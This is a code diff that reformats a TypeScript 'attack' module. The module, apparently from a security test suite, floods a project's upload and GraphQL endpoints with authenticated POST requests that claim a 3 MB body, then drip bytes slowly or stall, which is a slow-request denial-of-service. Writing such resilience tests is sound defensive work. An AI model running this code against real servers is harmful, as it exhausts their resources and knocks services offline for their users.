@@ -12,16 +12,24 @@ export const attack: Attack = {
     const { key } = attacker.credentials;
     const { editor } = attacker.tokens;
     const path = `/api/projects/${attacker.room.project.id}`;
-    const send = (index: number): Promise<void> => new Promise((resolve) => {
-      const [target, type] = index % 2 ? [`${path}/upload`, 'application/json'] : ['/graphql', 'application/json'];
-      const sending = request(url + target, { method: 'POST', headers: { 'content-type': type, 'content-length': '3000000', authorization: `Bearer ${index % 4 < 2 ? editor : key}` } }, (response) => void response.resume().on('close', resolve));
-      sending.on('error', () => resolve());
-      sending.write('{"fileName":"');
-      // Half of them stop here.
-      const dripping = index % 8 < 4 ? setInterval(() => sending.write('x'), 500) : undefined;
-      sending.on('close', () => clearInterval(dripping));
-      void sleep(seconds * 1_000).then(() => sending.destroy());
-    });
+    const send = (index: number): Promise<void> =>
+      new Promise((resolve) => {
+        const [target, type] = index % 2 ? [`${path}/upload`, 'application/json'] : ['/graphql', 'application/json'];
+        const sending = request(
+          url + target,
+          {
+            method: 'POST',
+            headers: { 'content-type': type, 'content-length': '3000000', authorization: `Bearer ${index % 4 < 2 ? editor : key}` },
+          },
+          (response) => void response.resume().on('close', resolve),
+        );
+        sending.on('error', () => resolve());
+        sending.write('{"fileName":"');
+        // Half of them stop here.
+        const dripping = index % 8 < 4 ? setInterval(() => sending.write('x'), 500) : undefined;
+        sending.on('close', () => clearInterval(dripping));
+        void sleep(seconds * 1_000).then(() => sending.destroy());
+      });
     await Promise.all(Array.from({ length: senders }, (_, index) => send(index)));
   },
 };
